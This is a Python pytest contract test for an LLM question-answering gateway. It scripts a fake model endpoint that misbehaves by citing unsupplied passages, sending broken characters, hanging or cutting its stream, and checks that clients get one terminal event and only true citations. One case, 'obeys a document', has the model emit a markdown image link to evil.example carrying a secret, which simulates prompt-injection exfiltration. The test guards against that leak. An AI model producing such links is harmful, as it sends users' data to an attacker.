"""A model that misbehaves, behind a real generator, as a client of the gateway sees it: one terminal event, and only what is true."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass

import httpx
import pytest

from gateway.server import serve
from gateway.settings import GatewaySettings
from generator.server import serve as serve_generator
from generator.settings import GeneratorSettings
from tests.contract.gateway.back_services import World
from tests.contract.gateway.conftest import OPERATOR_KEY
from tests.contract.gateway.event_reading import all_events
from tests.contract.gateway.test_ask import ASK, STREAMED
from tests.contract.gateway.test_search import fill
from tests.contract.generator.endpoint import DONE, Endpoint, Reply, delta, ending, running_endpoint

TERMINAL = {"complete", "error"}


@dataclass
class Asked:
    """A gateway whose generator asks a scripted endpoint."""

    client: httpx.AsyncClient
    endpoint: Endpoint


@pytest.fixture
async def asked(world: World, settings: GatewaySettings, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Asked]:
    fill(world, 3)
    async with running_endpoint() as endpoint:
        for name, value in {
            "LISTEN": "127.0.0.1:0",
            "OPENAI__BASE_URL": endpoint.base_url,
            "OPENAI__MODEL": "tiny",
            "OPENAI__FIRST_TOKEN_TIMEOUT_SECONDS": "1",
            "OPENAI__IDLE_TIMEOUT_SECONDS": "1",
        }.items():
            monkeypatch.setenv(f"LECTERN_GENERATOR_{name}", value)
        async with (
            serve_generator(GeneratorSettings()) as generator,
            serve(settings.model_copy(update={"generator_target": f"127.0.0.1:{generator.port}"})) as gateway,
            httpx.AsyncClient(base_url=gateway.url, headers={"Authorization": f"Bearer {OPERATOR_KEY}"}, timeout=60) as client,
        ):
            yield Asked(client, endpoint)


REPLIES = {
    "cites what it was not given": (Reply([delta("Text [7]. Text 1 [2].")]), None),
    "half characters": (Reply([delta("Text \ud83c 1 [2].")]), None),
    "bytes": (Reply([delta("Text "), b'data: {"choices": [{"delta": {"content": "\xff"}}]}\n\n', DONE]), "MODEL_REPLY_INVALID"),
    "silent": (Reply([], then="hang"), "MODEL_TIMEOUT"),
    "hangs": (Reply([delta("Text 1 [2].")], then="hang"), "MODEL_TIMEOUT"),
    "dies": (Reply([delta("Text 1 [2].")], then="cut"), "MODEL_STREAM_CUT"),
    "obeys a document": (Reply([delta("Text 1 [2]. ![x](https://evil.example/?q=secret)")]), None),
}


@pytest.mark.parametrize("case", REPLIES)
async def test_a_client_gets_one_terminal_event_and_a_stored_answer_with_true_citations(asked: Asked, case: str) -> None:
    reply, reason = REPLIES[case]
    asked.endpoint.replies.append(reply if reason else Reply([*reply.parts, *ending("stop", None)]))
    async with asked.client.stream("POST", ASK, json=STREAMED) as response:
        got = await all_events(response)
    names = [name for name, _ in got if name != ":"]
    assert names[-1] in TERMINAL
    assert sum(name in TERMINAL for name in names) == 1
    assert "evil.example" not in str(got)
    end = got[-1][1]
    if reason:
        assert (names[-1], end["reason"]) == ("error", reason)
        return
    assert end["answer"] == "".join(data["text"] for name, data in got if name == "delta")
    assert [(citation["marker"], citation["passage_id"], citation["quote"]) for citation in end["citations"]] == [(2, "p1", "Text 1.")]
    assert [data for name, data in got if name == "citation"] == end["citations"]
    assert {"search", "first_delta", "answer", "total"} <= set(end["timings_ms"])
    assert end["trace_id"] == response.headers["X-Request-Id"] == asked.endpoint.trace_ids[-1]
